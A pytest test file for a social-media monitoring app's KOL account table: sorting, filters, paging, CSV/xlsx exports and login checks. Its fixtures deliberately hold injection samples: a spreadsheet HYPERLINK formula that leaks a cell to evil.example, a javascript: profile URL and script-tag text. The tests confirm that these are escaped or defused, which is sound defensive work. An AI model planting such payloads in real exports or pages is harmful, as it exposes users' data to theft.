"""The KOL table: sorted and filtered by the store (platform, net sentiment) or by profile
(tier), paged with its total, downloads of the whole filtered table (CSV with a BOM, xlsx)
where a hostile account name never becomes a formula, hostile text escaped, roles."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from crawlers.items import Author, Monitor, Post, utcnow
from crawlers.storage import Store
from tests.web_support import HOSTILE_MONITOR, HOSTILE_TEXT, login, make_app
from web.data.kol import KolQuery, kol_page, kol_rows
from web.data.series import resolve_window
from web.exports.kol_table import kol_csv

KM = "品牌K"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def fill_kol(store: Store, now: datetime) -> None:
    """Monitor KM with four accounts of known figures, each tier, each net class:

    ========  ======  =====  ==========  =========  =================================
    account   posts   eng.   labels      tier       profile
    ========  ======  =====  ==========  =========  =================================
    weibo k1  5       50     4+ 1-       head (2M)  大号, verified, https profile
    forum k4  3       3      unscored    unknown    none (name only on its posts)
    weibo k2  2       0      2-          tail (50k) EVIL_NAME
    zhihu k3  1       7      1 neutral   waist      stored tier, javascript: profile
    ========  ======  =====  ==========  =========  =================================

    k1 also has a post of the other monitor only, and its first original two reposts by
    accounts outside KM; weibo x1 posts only under HOSTILE_MONITOR.
    """
    store.save_monitor(Monitor(KM, "品牌K", ["weibo", "zhihu", "forum"], every=1800,
                               created_at=now - timedelta(days=10)))
    t = now - timedelta(days=2)
    labels = ("positive", "positive", "positive", "positive", "negative")
    posts = [Post("weibo", f"k1p{i}", text=f"品牌K 好评 {i}", created_at=t + timedelta(hours=i),
                  author_id="k1", author_name="大号", topics=[KM], like_count=10,
                  url=f"https://weibo.com/k1/{i}", sentiment_label=labels[i], kind="original")
             for i in range(5)]
    posts += [Post("weibo", "k1x", text="别的监测", created_at=t, author_id="k1",
                   topics=[HOSTILE_MONITOR], sentiment_label="negative")]
    posts += [Post("weibo", f"k1r{i}", kind="repost", root_post_id="k1p0", parent_post_id="k1p0",
                   author_id=f"fan{i}", created_at=t + timedelta(minutes=i + 1), topics=[])
              for i in range(2)]
    posts += [Post("weibo", f"k2p{i}", text="品牌K 差评", created_at=t + timedelta(hours=10 + i),
                   author_id="k2", author_name=EVIL_NAME, topics=[KM],
                   sentiment_label="negative") for i in range(2)]
    posts += [Post("zhihu", "k3p0", text=HOSTILE_TEXT, created_at=t + timedelta(hours=20),
                   author_id="k3", topics=[KM], like_count=7, sentiment_label="neutral")]
    posts += [Post("forum", f"k4p{i}", text="品牌K 帖子", created_at=t + timedelta(hours=30 + i),
                   author_id="k4", author_name=HOSTILE_TEXT, topics=[KM], like_count=1)
              for i in range(3)]
    posts += [Post("weibo", "x1p", text="品牌B 秘密", created_at=t, author_id="x1",
                   author_name="别家账号", topics=[HOSTILE_MONITOR])]
    store.upsert_posts(posts)
    store.upsert_authors([
        Author("weibo", "k1", name="大号", followers=2_000_000, verified=True,
               url="https://weibo.com/k1", region="上海", description="品牌观察",
               influence=321.5),
        Author("weibo", "k2", name=EVIL_NAME, followers=50_000),
        Author("zhihu", "k3", name="知乎答主", tier="waist", url="javascript:window.__pwned=7"),
    ])


@pytest.fixture
def app(tmp_path):
    app = make_app(tmp_path)
    fill_kol(app.state.ctx.store, utcnow())
    return app


@pytest.fixture
def viewer(app):
    with TestClient(app) as client:
        assert login(client, "vic").status_code == 303
        yield client


def _api(query: str = "") -> str:
    return f"/api/monitors/{quote(KM, safe='')}/kol" + (f"?{query}" if query else "")


def _ids(body) -> list[str]:
    return [r["author_id"] for r in body["rows"]]


def test_rows_carry_profile_figures_and_links(viewer):
    body = viewer.get(_api()).json()
    assert body["total"] == 4 and body["pages"] == 1 and body["topic"] == KM
    assert _ids(body) == ["k1", "k4", "k2", "k3"]  # most posts first
    k1, k4, k2, k3 = body["rows"]
    assert (k1["name"], k1["platform_name"], k1["tier"], k1["tier_name"]) == (
        "大号", "微博", "head", "头部")
    assert (k1["followers"], k1["verified"], k1["posts"], k1["engagement"]) == (
        2_000_000, True, 5, 50)  # the other monitor's post is not counted
    assert (k1["positive"], k1["neutral"], k1["negative"]) == (4, 0, 1)
    assert k1["net"] == pytest.approx(0.6) and k1["negative_share"] == pytest.approx(0.2)
    assert k1["account_url"] == f"/accounts/weibo/k1?monitor={quote(KM, safe='')}"
    assert k1["profile_url"] == "https://weibo.com/k1"
    assert k1["first_at"].startswith(str((utcnow() - timedelta(days=2)).date())[:4])
    assert k4["name"] == HOSTILE_TEXT and k4["tier_name"] == "未知" and k4["net"] is None
    assert k2["name"] == EVIL_NAME and k2["tier"] == "tail" and k2["net"] == -1.0
    assert k3["tier"] == "waist" and k3["profile_url"] is None  # javascript: dropped
    assert k3["name"] == "知乎答主"


@pytest.mark.parametrize(("query", "expected"), [
    ("order=engagement", ["k1", "k3", "k4", "k2"]),
    ("order=engagement&desc=0", ["k2", "k4", "k3", "k1"]),
    ("order=net&desc=0", ["k2", "k1", "k4", "k3"]),  # no net (k4, k3) last either way
    ("order=net", ["k1", "k2", "k4", "k3"]),
    ("order=negative", ["k2", "k1", "k4", "k3"]),
    ("order=last_at", ["k4", "k3", "k2", "k1"]),
    ("order=first_at&desc=0", ["k1", "k2", "k3", "k4"]),
])
def test_sorting(viewer, query, expected):
    assert _ids(viewer.get(_api(query)).json()) == expected


@pytest.mark.parametrize(("query", "expected"), [
    ("platform=weibo", ["k1", "k2"]),
    ("tier=head", ["k1"]), ("tier=tail", ["k2"]), ("tier=waist", ["k3"]),
    ("tier=unknown", ["k4"]), ("tier=kol", []),
    ("sentiment=negative", ["k2"]), ("sentiment=positive", ["k1"]),
    ("sentiment=neutral", ["k3"]), ("sentiment=unscored", ["k4"]),
    ("platform=weibo&tier=tail&sentiment=negative", ["k2"]),
    ("platform=zhihu&sentiment=negative", []),
])
def test_filters(viewer, query, expected):
    body = viewer.get(_api(query)).json()
    assert _ids(body) == expected and body["total"] == len(expected)


def test_unknown_filter_values_are_refused(viewer):
    for query in ("order=followers", "tier=boss", "sentiment=angry", "platform=myspace",
                  "range=2d", "desc=2", "page=0"):
        assert viewer.get(_api(query)).status_code == 422, query


def test_pages_have_the_total(app):
    store, w = app.state.ctx.store, app.state.ctx.words
    win = resolve_window(store, KM, now=utcnow())
    first = kol_page(store, KM, win, KolQuery(size=3), w=w)
    second = kol_page(store, KM, win, KolQuery(size=3, page=2), w=w)
    assert (first["total"], first["pages"], second["total"]) == (4, 2, 4)
    assert [r["author_id"] for r in first["rows"] + second["rows"]] == ["k1", "k4", "k2", "k3"]
    tiered = kol_page(store, KM, win, KolQuery(size=1, page=2, platform="weibo",
                                               order="posts", descending=False), w=w)
    assert [r["author_id"] for r in tiered["rows"]] == ["k1"] and tiered["total"] == 2
    by_tier = kol_page(store, KM, win, KolQuery(size=1, tier="tail"), w=w)
    assert [r["author_id"] for r in by_tier["rows"]] == ["k2"] and by_tier["total"] == 1
    beyond = kol_page(store, KM, win, KolQuery(size=3, page=9), w=w)
    assert beyond["rows"] == [] and beyond["total"] == 4


def test_the_page_sorts_filters_and_pages_with_links(viewer):
    page = viewer.get(f"/monitors/{quote(KM, safe='')}/kol?order=engagement&platform=weibo")
    assert page.status_code == 200
    assert "共 2 个账号，第 1/1 页" in page.text
    assert page.text.index('data-account="weibo/k1"') < page.text.index('data-account="weibo/k2"')
    assert 'aria-sort="descending"' in page.text
    # the active column's link flips the direction and keeps the filters
    assert 'href="?order=engagement&amp;desc=0&amp;platform=weibo"' in page.text
    assert f'href="/accounts/weibo/k1?monitor={quote(KM, safe="")}"' in page.text
    assert 'name="platform"' in page.text and '<option value="weibo" selected>' in page.text
    assert (f'href="/monitors/{quote(KM, safe="")}/kol.xlsx?order=engagement&amp;'
            'platform=weibo"') in page.text


def test_hostile_text_is_escaped_in_the_page(viewer):
    page = viewer.get(f"/monitors/{quote(KM, safe='')}/kol").text
    assert "<script>window.__pwned" not in page and "<img src=x" not in page
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in page
    assert 'href="javascript:' not in page
    assert "=HYPERLINK(&#34;http://evil.example" in page  # shown as text


def _csv_rows(reply) -> list[list[str]]:
    text = reply.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_is_the_whole_filtered_table_with_formulas_defused(viewer):
    reply = viewer.get(f"/monitors/{quote(KM, safe='')}/kol.csv?order=engagement&page=1")
    assert reply.status_code == 200 and reply.headers["content-type"].startswith("text/csv")
    disposition = reply.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=\"tingfeng-kol-accounts-")
    assert f"filename*=UTF-8''{quote(KM, safe='')}-KOL%E8%B4%A6%E5%8F%B7-" in disposition
    rows = _csv_rows(reply)
    assert rows[0][:4] == ["#", "平台", "账号", "账号 ID"]
    assert [r[3] for r in rows[1:]] == ["k1", "k3", "k4", "k2"]
    k2 = rows[4]
    assert k2[2] == "'" + EVIL_NAME  # a spreadsheet shows it, never runs it
    assert k2[4] == "尾部" and k2[6] == "否" and k2[11] == "2" and k2[12] == "-1.0"
    assert rows[1][5] == "2000000" and rows[1][16] == "https://weibo.com/k1"
    assert rows[2][16] == ""  # the javascript: profile is no link
    filtered = _csv_rows(viewer.get(f"/monitors/{quote(KM, safe='')}/kol.csv?tier=tail"))
    assert [r[3] for r in filtered[1:]] == ["k2"]


def test_xlsx_holds_text_not_formulas(viewer):
    from openpyxl import load_workbook

    reply = viewer.get(f"/monitors/{quote(KM, safe='')}/kol.xlsx")
    assert reply.status_code == 200
    assert reply.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert ".xlsx" in reply.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(reply.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("#", "平台", "账号")
    assert [r[3] for r in rows[1:]] == ["k1", "k4", "k2", "k3"]
    cell = sheet.cell(4, 3)
    assert cell.value == EVIL_NAME and cell.data_type == "s"
    assert isinstance(rows[1][14], datetime)  # real Excel dates, Beijing time


def test_a_download_past_the_cap_says_so(app):
    store, w = app.state.ctx.store, app.state.ctx.words
    win = resolve_window(store, KM, now=utcnow())
    rows, total = kol_rows(store, KM, win, KolQuery(), w=w, cap=2)
    assert [r["author_id"] for r in rows] == ["k1", "k4"] and total == 4
    lines = kol_csv(rows, total, w).decode("utf-8").splitlines()
    assert len(lines) == 4 and "仅导出前 2 个账号（共 4 个）" in lines[-1]


def test_viewer_reads_and_login_is_required(app, viewer):
    for path in (f"/monitors/{quote(KM, safe='')}/kol", _api(),
                 f"/monitors/{quote(KM, safe='')}/kol.csv",
                 f"/monitors/{quote(KM, safe='')}/kol.xlsx"):
        assert viewer.get(path).status_code == 200, path
    with TestClient(app) as anonymous:
        page = anonymous.get(f"/monitors/{quote(KM, safe='')}/kol", follow_redirects=False)
        assert page.status_code in (302, 303) and "/login" in page.headers["location"]
        assert anonymous.get(_api()).status_code == 401
        download = anonymous.get(f"/monitors/{quote(KM, safe='')}/kol.csv",
                                 follow_redirects=False)
        assert download.status_code in (302, 303)


def test_unknown_monitor_is_404(viewer):
    for path in ("/monitors/没有/kol", "/api/monitors/没有/kol", "/monitors/没有/kol.csv",
                 "/monitors/没有/kol.xlsx"):
        assert viewer.get(path).status_code == 404, path


def test_another_monitors_accounts_are_not_listed(viewer):
    body = viewer.get(_api()).json()
    assert "x1" not in _ids(body)
    other = viewer.get(f"/api/monitors/{quote(HOSTILE_MONITOR, safe='')}/kol").json()
    assert "x1" in _ids(other)


def test_auto_range_falls_back_to_all_time_like_the_dashboard(app, viewer):
    store, now = app.state.ctx.store, utcnow()
    store.save_monitor(Monitor("旧监测", "旧", ["weibo"], every=3600,
                               created_at=now - timedelta(days=90)))
    store.upsert_posts([Post("weibo", "old1", text="旧帖", created_at=now - timedelta(days=40),
                             author_id="o1", author_name="老账号", topics=["旧监测"])])
    api = f"/api/monitors/{quote('旧监测', safe='')}/kol"
    auto = viewer.get(api).json()
    assert auto["range"] == "all" and _ids(auto) == ["o1"]
    recent = viewer.get(api + "?range=30d").json()
    assert recent["range"] == "30d" and recent["total"] == 0
    assert viewer.get(_api()).json()["range"] == "30d"
    dashboard = viewer.get(f"/api/monitors/{quote('旧监测', safe='')}/series").json()
    assert dashboard["range"] == auto["range"]


def test_tiers_of_agrees_with_the_tier_each_profile_shows():
    from crawlers.items import Author
    from crawlers.storage.memory import MemoryStore
    from web.data.series import tier_of, tiers_of

    store = MemoryStore()
    profiles = [
        Author("weibo", "scored", followers=10, tier="head"),     # the stored tier wins
        Author("weibo", "fans", followers=150_000),                # from followers: waist
        Author("weibo", "nobody"),                                 # no followers: unknown
        Author("forum", "f", followers=20_000),                    # forum cut-offs: waist
        Author("zhihu", "z", followers=900_000, extra={"voteup_count": 20_000}),  # upvotes
        Author("wechat", "gh"),                                    # judged by reads: unknown
    ]
    store.upsert_authors(profiles)
    keys = [a.key for a in profiles] + [("weibo", "missing")]
    got = tiers_of(store, keys)
    assert got == {a.key: tier_of(store.authors([a.key])[a.key]) for a in profiles}
    assert [got[a.key] for a in profiles] == ["head", "waist", "unknown", "waist", "tail",
                                              "unknown"]
